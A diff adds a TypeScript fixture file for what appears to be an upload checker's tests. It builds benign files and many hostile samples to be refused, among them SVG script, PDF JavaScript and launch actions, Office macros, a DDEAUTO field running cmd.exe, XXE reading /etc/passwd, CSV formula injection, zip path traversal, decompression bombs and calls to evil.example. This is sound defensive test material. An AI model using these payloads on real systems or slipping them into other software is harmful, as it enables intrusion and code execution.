@@ -1,0 +1,525 @@
+// Names of formats: chunks of PNG, keys of PDF, parts of Office files.
+// cspell:disable
+import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
+import { strToU8, zipSync, type Zippable } from 'fflate';
+import sharp from 'sharp';
+
+/** A file that somebody puts into `content/files/`, and whether the check must refuse it. */
+export interface Upload {
+  name: string;
+  path: string;
+  bytes: Uint8Array;
+  refused: boolean;
+}
+
+const ascii = (text: string) => Buffer.from(text, 'latin1');
+const join = (...parts: (string | Uint8Array)[]) =>
+  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'utf8') : part)));
+
+const script = '<script>alert(1)</script>';
+const drawing = `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`;
+const webPage = `<!doctype html><title>x</title>${script}`;
+
+/** Files by what they are about; each name is unique. */
+export async function makeUploads(): Promise<Upload[]> {
+  return [...drawings(), ...(await pictures()), ...documents(), ...offices(), ...texts(), ...(await names())];
+}
+
+const refuse = (name: string, path: string, bytes: Uint8Array | string): Upload => ({
+  name,
+  path: `files/${path}`,
+  bytes: typeof bytes === 'string' ? Buffer.from(bytes, 'utf8') : bytes,
+  refused: true,
+});
+const pass = (...of: Parameters<typeof refuse>): Upload => ({ ...refuse(...of), refused: false });
+
+function drawings(): Upload[] {
+  return [
+    refuse('drawing', 'foto/a.svg', drawing),
+    refuse('drawing in capitals', 'foto/a.SVG', drawing),
+    refuse('packed drawing', 'foto/a.svgz', gzipSync(drawing)),
+    refuse('drawing named PNG', 'foto/a.png', drawing),
+    refuse('drawing named JPEG', 'foto/a.jpg', drawing),
+    refuse('drawing named WebP', 'foto/a.webp', drawing),
+    refuse('drawing named AVIF', 'foto/a.avif', drawing),
+    refuse('drawing named PDF', 'dokumen/a.pdf', drawing),
+    refuse('drawing after a byte order mark', 'foto/a.png', join('\ufeff', drawing)),
+    refuse('drawing in UTF-16', 'foto/a.png', join(Buffer.from([0xff, 0xfe]), Buffer.from(drawing, 'utf16le'))),
+    refuse('drawing after a comment of 100 kB', 'foto/a.png', `<!--${' '.repeat(100_000)}-->${drawing}`),
+    refuse('drawing of entities', 'foto/a.png', `<!DOCTYPE svg [<!ENTITY a "aaaa">${entities()}]><svg>&j;</svg>`),
+    refuse('page named PNG', 'foto/a.png', webPage),
+    refuse('page named JPEG', 'foto/a.jpeg', webPage),
+    refuse('program named PNG', 'foto/a.png', join('MZ', Buffer.alloc(200))),
+  ];
+}
+
+const entities = () =>
+  [...'bcdefghij'].map((name, index) => `<!ENTITY ${name} "${`&${'abcdefghi'[index] ?? ''};`.repeat(10)}">`).join('');
+
+async function pictures(): Promise<Upload[]> {
+  const make = (width = 8, height = 8) => sharp({ create: { width, height, channels: 3, background: '#456' } });
+  const png = await make().png().toBuffer();
+  const jpeg = await make().jpeg().toBuffer();
+  const webp = await make().webp().toBuffer();
+  const gif = await make().gif().toBuffer();
+  const tiff = await make().tiff().toBuffer();
+  const place = {
+    IFD3: { GPSLatitudeRef: 'S', GPSLatitude: '7/1 15/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '112/1 45/1 0/1' },
+  };
+  const xmp = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="7,15.0S" exif:GPSLongitude="112,45.0E"/></rdf:RDF></x:xmpmeta>`;
+  return [
+    pass('picture', 'foto/baik.png', png),
+    pass('photo', 'foto/baik.jpg', jpeg),
+    pass('photo as WebP', 'foto/baik.webp', webp),
+    refuse('picture of no bytes', 'foto/a.png', ''),
+    refuse('picture cut off after its head', 'foto/a.png', png.subarray(0, 33)),
+    refuse('picture cut off in the middle', 'foto/a.png', png.subarray(0, png.length - 24)),
+    refuse('photo cut off in the middle', 'foto/a.jpg', jpeg.subarray(0, jpeg.length >> 1)),
+    refuse('photo named PNG', 'foto/a.png', jpeg),
+    refuse('picture named JPEG', 'foto/a.jpg', png),
+    refuse('picture named WebP', 'foto/a.webp', png),
+    refuse('moving picture named PNG', 'foto/a.png', gif),
+    refuse('TIFF named JPEG', 'foto/a.jpg', tiff),
+    refuse('TIFF', 'foto/a.tiff', tiff),
+    refuse('bitmap', 'foto/a.bmp', join('BM', Buffer.alloc(60))),
+    refuse('icon', 'foto/a.ico', Buffer.from([0, 0, 1, 0, 1, 0, 8, 8, 0, 0, 1, 0, 32, 0])),
+    refuse('PostScript', 'foto/a.eps', '%!PS-Adobe-3.0 EPSF-3.0\n'),
+    refuse('PostScript named PNG', 'foto/a.png', '%!PS-Adobe-3.0 EPSF-3.0\n(x) show\n'),
+    refuse(
+      'script for ImageMagick named PNG',
+      'foto/a.png',
+      'push graphic-context\nfill \'url(https://evil.example/"|id")\'\n',
+    ),
+    refuse('picture that says it is 60,000 by 60,000', 'foto/a.png', pngOf(60_000, 60_000, Buffer.alloc(1))),
+    refuse('picture of 2³¹ by 2³¹', 'foto/a.png', pngOf(0x7f_ff_ff_ff, 0x7f_ff_ff_ff, Buffer.alloc(1))),
+    refuse('picture of no width', 'foto/a.png', pngOf(0, 8, Buffer.alloc(1))),
+    refuse('picture that unpacks to 800 megapixels', 'foto/a.png', pngOf(28_000, 28_000, Buffer.alloc(28_000 * 3501))),
+    refuse('picture of 100,000 by 1', 'foto/a.png', pngOf(100_000, 1, Buffer.alloc(12_501))),
+    refuse('photo that says it is 65,500 by 65,500', 'foto/a.jpg', jpegOf(jpeg, 65_500)),
+    refuse('picture with a page behind it', 'foto/a.png', join(png, webPage)),
+    refuse('picture with an archive behind it', 'foto/a.png', join(png, zipSync({ 'x.html': strToU8(webPage) }))),
+    refuse('picture with a document behind it', 'foto/a.png', join(png, pdf('<</Type/Catalog>>'))),
+    pass(
+      'photo with words in a comment',
+      'foto/komentar.jpg',
+      join(jpeg.subarray(0, 2), ascii('\xff\xfe\x00\x1b'), script, jpeg.subarray(2)),
+    ),
+    refuse('photo with its place', 'foto/a.jpg', await make().jpeg().withExif(place).toBuffer()),
+    refuse('picture with its place', 'foto/a.png', await make().png().withExif(place).toBuffer()),
+    refuse('WebP with its place', 'foto/a.webp', await make().webp().withExif(place).toBuffer()),
+    refuse('photo with its place as XMP', 'foto/a.jpg', await make().jpeg().withXmp(xmp).toBuffer()),
+    refuse('WebP with its place as XMP', 'foto/a.webp', await make().webp().withXmp(xmp).toBuffer()),
+    refuse('picture with its place as XMP', 'foto/a.png', await make().png().withXmp(xmp).toBuffer()),
+  ];
+}
+
+function crc32(bytes: Uint8Array): number {
+  let crc = ~0;
+  for (const byte of bytes) {
+    crc ^= byte;
+    for (let bit = 0; bit < 8; bit += 1) crc = (crc >>> 1) ^ (0xedb8_8320 & -(crc & 1));
+  }
+  return ~crc >>> 0;
+}
+
+/** A PNG of one bit a point, whatever its rows hold. */
+function pngOf(width: number, height: number, rows: Uint8Array): Buffer {
+  const chunk = (type: string, data: Uint8Array) => {
+    const body = join(type, data);
+    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
+    length.writeUInt32BE(data.length);
+    sum.writeUInt32BE(crc32(body));
+    return Buffer.concat([length, body, sum]);
+  };
+  const head = Buffer.alloc(13);
+  head.writeUInt32BE(width, 0);
+  head.writeUInt32BE(height, 4);
+  head[8] = 1;
+  return Buffer.concat([
+    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
+    chunk('IHDR', head),
+    chunk('IDAT', deflateSync(rows)),
+    chunk('IEND', new Uint8Array()),
+  ]);
+}
+
+/** The same photo, with another size in its frame header. */
+function jpegOf(jpeg: Uint8Array, size: number): Buffer {
+  const copy = Buffer.from(jpeg);
+  const frame = [0xc0, 0xc2].map((kind) => copy.indexOf(Buffer.from([0xff, kind]))).find((at) => at > 0) ?? 0;
+  copy.writeUInt16BE(size, frame + 5);
+  copy.writeUInt16BE(size, frame + 7);
+  return copy;
+}
+
+/** A PDF of these objects; the first is its catalogue. */
+function pdf(...objects: (string | Uint8Array)[]): Buffer {
+  const numbered = objects.flatMap((object, index) => [`${String(index + 1)} 0 obj\n`, object, '\nendobj\n']);
+  return join('%PDF-1.7\n', ...numbered, 'trailer<</Root 1 0 R>>\n%%EOF\n');
+}
+
+const stream = (head: string, data: Uint8Array) =>
+  join(`<<${head}/Length ${String(data.length)}>>\nstream\n`, data, '\nendstream');
+/** An object stream that holds an action of JavaScript. */
+const inner = ascii('5 0 <</S/JavaScript/JS(app.alert(1))>>');
+const objects = (filter: string, data: Uint8Array) => stream(`/Type/ObjStm/N 1/First 4/Filter${filter}`, data);
+const hex = (data: Uint8Array) => ascii(`${Buffer.from(data).toString('hex')}>`);
+const catalogue = '<</Type/Catalog/OpenAction 5 0 R>>';
+
+/** Rows as a PNG would filter them (predictor 12: each byte less the one above). */
+function predicted(data: Uint8Array, columns: number): Buffer {
+  const rows: number[] = [];
+  for (let start = 0; start < data.length; start += columns) {
+    rows.push(2);
+    for (let at = start; at < start + columns; at += 1)
+      rows.push(((data[at] ?? 32) - (start > 0 ? (data[at - columns] ?? 32) : 0)) & 0xff);
+  }
+  return Buffer.from(rows);
+}
+
+function documents(): Upload[] {
+  const action = (dictionary: string) => pdf(`<</Type/Catalog/OpenAction ${dictionary}>>`);
+  return [
+    pass('document', 'dokumen/baik.pdf', pdf('<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[]/Count 0>>')),
+    pass(
+      'document that links',
+      'dokumen/tautan.pdf',
+      pdf('<</Type/Catalog>>', '<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://contoh.example/)>>>>'),
+    ),
+    refuse(
+      'document with a program by name',
+      'dokumen/a.pdf',
+      pdf('<</Type/Catalog/Names<</JavaScript 2 0 R>>>>', '<</Names[(x)<</S/JavaScript/JS(app.alert(1))>>]>>'),
+    ),
+    refuse(
+      'document with a program in hexadecimal names',
+      'dokumen/a.pdf',
+      action('<</S/#4a#61#76#61#53#63#72#69#70#74/#4a#53(app.alert(1))>>'),
+    ),
+    refuse(
+      'document with a program after a comment',
+      'dokumen/a.pdf',
+      action('<</S %x\n/JavaScript %y\n/JS(app.alert(1))>>'),
+    ),
+    refuse('document that starts a program', 'dokumen/a.pdf', action('<</S/Launch/F(cmd.exe)>>')),
+    refuse(
+      'document that acts when a page opens',
+      'dokumen/a.pdf',
+      pdf('<</Type/Catalog>>', '<</Type/Page/AA<</O<</S/Launch/F(x)>>>>>>'),
+    ),
+    refuse('document with a form that sends', 'dokumen/a.pdf', action('<</S/SubmitForm/F(https://evil.example/)>>')),
+    refuse('document that takes data in', 'dokumen/a.pdf', action('<</S/ImportData/F(x.fdf)>>')),
+    refuse(
+      'document that opens another',
+      'dokumen/a.pdf',
+      action('<</S/GoToR/F(\\\\\\\\evil.example\\\\x.pdf)/D[0/Fit]>>'),
+    ),
+    refuse('document that opens one inside', 'dokumen/a.pdf', action('<</S/GoToE/F(x.pdf)/D[0/Fit]>>')),
+    refuse(
+      'document with a form of XML',
+      'dokumen/a.pdf',
+      pdf('<</Type/Catalog/AcroForm<</XFA 2 0 R>>>>', stream('', ascii('<xdp:xdp/>'))),
+    ),
+    refuse(
+      'document with a file inside',
+      'dokumen/a.pdf',
+      pdf('<</Type/Catalog>>', stream('/Type/EmbeddedFile', ascii('MZ'))),
+    ),
+    refuse('document with rich media', 'dokumen/a.pdf', pdf('<</Type/Catalog>>', '<</Type/Annot/Subtype/RichMedia>>')),
+    refuse('document with a film', 'dokumen/a.pdf', pdf('<</Type/Catalog>>', '<</Type/Annot/Subtype/Movie>>')),
+    refuse(
+      'document with a link that is a program',
+      'dokumen/a.pdf',
+      pdf('<</Type/Catalog>>', '<</Type/Annot/Subtype/Link/A<</S/URI/URI(javascript:alert\\(1\\))>>>>'),
+    ),
+    refuse(
+      'document with a link to a file',
+      'dokumen/a.pdf',
+      pdf('<</Type/Catalog>>', '<</Type/Annot/Subtype/Link/A<</S/URI/URI(file:///c:/windows/system32/cmd.exe)>>>>'),
+    ),
+    refuse(
+      'document with a program in a packed object',
+      'dokumen/a.pdf',
+      pdf(catalogue, objects('/FlateDecode', deflateSync(inner))),
+    ),
+    refuse(
+      'document with a program in a twice packed object',
+      'dokumen/a.pdf',
+      pdf(catalogue, objects('[/FlateDecode/FlateDecode]', deflateSync(deflateSync(inner)))),
+    ),
+    refuse(
+      'document with a program in a hexadecimal object',
+      'dokumen/a.pdf',
+      pdf(catalogue, objects('/ASCIIHexDecode', hex(inner))),
+    ),
+    refuse(
+      'document with a program in a hexadecimal packed object',
+      'dokumen/a.pdf',
+      pdf(catalogue, objects('[/ASCIIHexDecode/FlateDecode]', hex(deflateSync(inner)))),
+    ),
+    refuse(
+      'document with a program in an object of the short filter',
+      'dokumen/a.pdf',
+      pdf(catalogue, objects('/Fl', deflateSync(inner))),
+    ),
+    refuse(
+      'document with a program in a predicted object',
+      'dokumen/a.pdf',
+      pdf(catalogue, objects('/FlateDecode/DecodeParms<</Predictor 12/Columns 4>>', deflateSync(predicted(inner, 4)))),
+    ),
+    refuse(
+      'document with a program in an object of an unknown filter',
+      'dokumen/a.pdf',
+      pdf(catalogue, objects('/LZWDecode', Buffer.from([0x80, 0x0b, 0x60, 0x50]))),
+    ),
+    refuse(
+      'document with a program in an object that does not unpack',
+      'dokumen/a.pdf',
+      pdf(catalogue, objects('/FlateDecode', deflateRawSync(inner))),
+    ),
+    refuse(
+      'document with a password',
+      'dokumen/a.pdf',
+      join('%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\ntrailer<</Root 1 0 R/Encrypt 9 0 R>>\n%%EOF\n'),
+    ),
+    refuse('document after a page', 'dokumen/a.pdf', join(webPage, pdf('<</Type/Catalog>>'))),
+    refuse('document that is a page after its first line', 'dokumen/a.pdf', `%PDF-1.7\n${webPage}`),
+    refuse(
+      'document with a program in a later version',
+      'dokumen/a.pdf',
+      join(
+        pdf('<</Type/Catalog>>'),
+        '1 0 obj\n<</Type/Catalog/OpenAction<</S/JavaScript/JS(1)>>>>\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
+      ),
+    ),
+    refuse('document of no bytes', 'dokumen/a.pdf', ''),
+    refuse('document of one line', 'dokumen/a.pdf', '%PDF-1.7\n'),
+    refuse(
+      'document that unpacks to a gigabyte',
+      'dokumen/a.pdf',
+      pdf(
+        catalogue,
+        objects(
+          '[/FlateDecode/FlateDecode]',
+          deflateSync(deflateSync(Buffer.alloc(300_000_000), { level: 9 }), { level: 9 }),
+        ),
+      ),
+    ),
+    refuse('document that is an archive', 'dokumen/a.pdf', zipSync({ 'x.txt': strToU8('x') })),
+    refuse(
+      'document that is a photo',
+      'dokumen/a.pdf',
+      Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46]),
+    ),
+  ];
+}
+
+const types = (main: string, type: string) =>
+  strToU8(
+    `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/${main}" ContentType="${type}"/></Types>`,
+  );
+const wordType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
+const sheetType = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';
+const relations = (inner: string) =>
+  strToU8(
+    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner}</Relationships>`,
+  );
+const first = (target: string) =>
+  relations(
+    `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="${target}"/>`,
+  );
+const words = (inner = '<w:p><w:r><w:t>Naskah</w:t></w:r></w:p>') =>
+  strToU8(
+    `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${inner}</w:body></w:document>`,
+  );
+const wordFiles = (more: Zippable = {}, type = wordType): Zippable => ({
+  '[Content_Types].xml': types('word/document.xml', type),
+  '_rels/.rels': first('word/document.xml'),
+  'word/document.xml': words(),
+  ...more,
+});
+const word = (more?: Zippable, type?: string) => zipSync(wordFiles(more, type));
+const sheet = (more: Zippable = {}) =>
+  zipSync({
+    '[Content_Types].xml': types('xl/workbook.xml', sheetType),
+    '_rels/.rels': first('xl/workbook.xml'),
+    'xl/workbook.xml': strToU8(
+      '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>',
+    ),
+    ...more,
+  });
+const outside = (kind: string, target: string) =>
+  relations(
+    `<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/>`,
+  );
+/** The head of the container of old Office files, also of those with a password. */
+const container = join(Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(1016));
+const openDocument = (type: string, more: Zippable = {}) =>
+  zipSync({
+    mimetype: [strToU8(type), { level: 0 }],
+    'content.xml': strToU8('<x/>'),
+    'META-INF/manifest.xml': strToU8('<x/>'),
+    ...more,
+  });
+
+function offices(): Upload[] {
+  const link = 'word/_rels/document.xml.rels';
+  return [
+    pass('letter', 'dokumen/baik.docx', word()),
+    pass('letter that links', 'dokumen/tautan.docx', word({ [link]: outside('hyperlink', 'https://contoh.example/') })),
+    pass('sheet', 'dokumen/baik.xlsx', sheet()),
+    refuse('letter with a program', 'dokumen/a.docx', word({ 'word/vbaProject.bin': Buffer.alloc(64) })),
+    refuse('letter with a program in capitals', 'dokumen/a.docx', word({ 'word/VBAPROJECT.BIN': Buffer.alloc(64) })),
+    refuse(
+      'letter of the kind with programs',
+      'dokumen/a.docx',
+      word({}, 'application/vnd.ms-word.document.macroEnabled.main+xml'),
+    ),
+    refuse(
+      'letter with a program, by its own name',
+      'dokumen/a.docm',
+      word({ 'word/vbaProject.bin': Buffer.alloc(64) }),
+    ),
+    refuse(
+      'letter with a template from elsewhere',
+      'dokumen/a.docx',
+      word({ 'word/_rels/settings.xml.rels': outside('attachedTemplate', 'https://evil.example/x.dotm') }),
+    ),
+    refuse(
+      'letter with a picture from elsewhere',
+      'dokumen/a.docx',
+      word({ [link]: outside('image', 'https://evil.example/x.png') }),
+    ),
+    refuse(
+      'letter with a frame from elsewhere',
+      'dokumen/a.docx',
+      word({ 'word/_rels/webSettings.xml.rels': outside('frame', '\\\\evil.example\\x') }),
+    ),
+    refuse(
+      'letter with an object from elsewhere',
+      'dokumen/a.docx',
+      word({ [link]: outside('oleObject', 'mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html') }),
+    ),
+    refuse('letter with an object inside', 'dokumen/a.docx', word({ 'word/embeddings/oleObject1.bin': container })),
+    refuse(
+      'letter with a page inside',
+      'dokumen/a.docx',
+      word({
+        'word/afchunk.html': strToU8(webPage),
+        [link]: relations(
+          '<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="afchunk.html"/>',
+        ),
+      }),
+    ),
+    refuse('letter with a control', 'dokumen/a.docx', word({ 'word/activeX/activeX1.bin': Buffer.alloc(64) })),
+    refuse(
+      'letter with a field that starts a program',
+      'dokumen/a.docx',
+      word({
+        'word/document.xml': words(
+          '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>',
+        ),
+      }),
+    ),
+    refuse(
+      'letter of entities',
+      'dokumen/a.docx',
+      word({ 'word/document.xml': strToU8(`<!DOCTYPE w [<!ENTITY a "aaaa">${entities()}]><w>&j;</w>`) }),
+    ),
+    refuse(
+      'letter with an entity of a file',
+      'dokumen/a.docx',
+      word({ 'word/document.xml': strToU8('<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]><w>&a;</w>') }),
+    ),
+    refuse(
+      'letter that unpacks to a gigabyte',
+      'dokumen/a.docx',
+      word({ 'word/media/x.bin': Buffer.alloc(300_000_000) }),
+    ),
+    refuse('letter with a file outside itself', 'dokumen/a.docx', word({ '../../../../tmp/x.txt': strToU8('x') })),
+    refuse('letter without a letter', 'dokumen/a.docx', zipSync({ 'x.txt': strToU8('x') })),
+    refuse('letter that is a sheet', 'dokumen/a.docx', sheet()),
+    refuse('sheet that is a letter', 'dokumen/a.xlsx', word()),
+    refuse('letter that is a page', 'dokumen/a.docx', webPage),
+    refuse('letter with a password', 'dokumen/a.docx', container),
+    refuse('letter of old Word', 'dokumen/a.doc', container),
+    refuse('letter of rich text', 'dokumen/a.rtf', '{\\rtf1\\object\\objautlink}'),
+    refuse('letter of rich text named DOCX', 'dokumen/a.docx', '{\\rtf1\\object\\objautlink}'),
+    refuse('letter cut off', 'dokumen/a.docx', word().subarray(0, 300)),
+    refuse('letter with a program behind it', 'dokumen/a.docx', join(word(), 'MZ', Buffer.alloc(4000))),
+    refuse('letter with a page before it', 'dokumen/a.docx', join(webPage, word())),
+    refuse('sheet with a program', 'dokumen/a.xlsx', sheet({ 'xl/vbaProject.bin': Buffer.alloc(64) })),
+    refuse('sheet with an old program', 'dokumen/a.xlsx', sheet({ 'xl/macrosheets/sheet1.xml': strToU8('<x/>') })),
+    refuse(
+      'sheet with data from elsewhere',
+      'dokumen/a.xlsx',
+      sheet({ 'xl/connections.xml': strToU8('<connections/>') }),
+    ),
+    refuse(
+      'sheet that asks a program',
+      'dokumen/a.xlsx',
+      sheet({
+        'xl/externalLinks/externalLink1.xml': strToU8(
+          '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
+        ),
+      }),
+    ),
+    refuse(
+      'OpenDocument with a program',
+      'dokumen/a.odt',
+      openDocument('application/vnd.oasis.opendocument.text', { 'Basic/Standard/x.xml': strToU8('<x/>') }),
+    ),
+    refuse('OpenDocument named DOCX', 'dokumen/a.docx', openDocument('application/vnd.oasis.opendocument.text')),
+  ];
+}
+
+function texts(): Upload[] {
+  return [
+    pass('plain text with an element', 'dokumen/elemen.txt', `Naskah ${script}\n`),
+    refuse('program named text', 'dokumen/a.txt', join('\x7fELF', Buffer.alloc(60))),
+    refuse('text of null bytes', 'dokumen/a.txt', Buffer.alloc(64)),
+    refuse('text that is no UTF-8', 'dokumen/a.txt', Buffer.from([0x4e, 0xff, 0xfe, 0xc0, 0x80])),
+    refuse('table of formulas', 'dokumen/a.csv', '=cmd|\'/C calc\'!A0,"=HYPERLINK(""https://evil.example/"")"\n'),
+    refuse('page', 'dokumen/a.html', webPage),
+    refuse('page of XML', 'dokumen/a.xhtml', `<html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`),
+    refuse('XML', 'dokumen/a.xml', `<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`),
+    refuse('style sheet of XML', 'dokumen/a.xsl', '<x/>'),
+    refuse('script', 'dokumen/a.js', 'alert(1)'),
+    refuse('module', 'dokumen/a.mjs', 'alert(1)'),
+    refuse('bytes to run', 'dokumen/a.wasm', Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0])),
+    refuse('mail as a page', 'dokumen/a.mht', 'MIME-Version: 1.0\nContent-Type: text/html\n\n' + webPage),
+    refuse('shortcut', 'dokumen/a.url', '[InternetShortcut]\nURL=file:///c:/windows/system32/cmd.exe\n'),
+    refuse('calendar', 'dokumen/a.ics', 'BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n'),
+    refuse('archive', 'dokumen/a.zip', zipSync({ 'x.exe': Buffer.from('MZ') })),
+  ];
+}
+
+async function names(): Promise<Upload[]> {
+  const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#456' } })
+    .png()
+    .toBuffer();
+  const good = pdf('<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[]/Count 0>>');
+  return [
+    refuse('file for the host: headers', '_headers', '/*\n  Content-Security-Policy: *\n'),
+    refuse('file for the host: redirects', '_redirects', '/* https://evil.example/:splat 301\n'),
+    refuse('file for Apache', '.htaccess', 'AddType text/html .png\n'),
+    refuse('file for IIS', 'web.config', '<configuration/>'),
+    refuse('start page', 'index.html', webPage),
+    refuse('worker', 'pekerja.js', 'self.onfetch = () => {}'),
+    pass('document with two endings', 'dokumen/naskah.php.pdf', good),
+    pass('picture with two endings', 'foto/a.svg.png', png),
+    refuse('document with a turned name', 'dokumen/naskah\u202efdp.exe.pdf', good),
+    refuse('document with a space at its end', 'dokumen/naskah.pdf ', good),
+    refuse('document with a dot at its end', 'dokumen/naskah.pdf.', good),
+    refuse('document named as a device', 'dokumen/con.pdf', good),
+    refuse('document without an ending', 'dokumen/naskah', good),
+    refuse('document with a wide dot', 'dokumen/naskah．pdf', good),
+    pass('document with a Cyrillic letter', 'dokumen/nаskah.pdf', good),
+    refuse('document with a line in its name', 'dokumen/naskah\nx.pdf', good),
+    refuse('document with a question mark in its name', 'dokumen/naskah?x.pdf', good),
+    refuse('document with a percent sign in its name', 'dokumen/%2e%2e%2fnaskah.pdf', good),
+    refuse('document with a backslash in its name', 'dokumen\\..\\naskah.pdf', good),
+    refuse('document of a hidden folder', '.git/naskah.pdf', good),
+    refuse('document of a name that is too long', `dokumen/${'n'.repeat(240)}.pdf`, good),
+  ];
+}
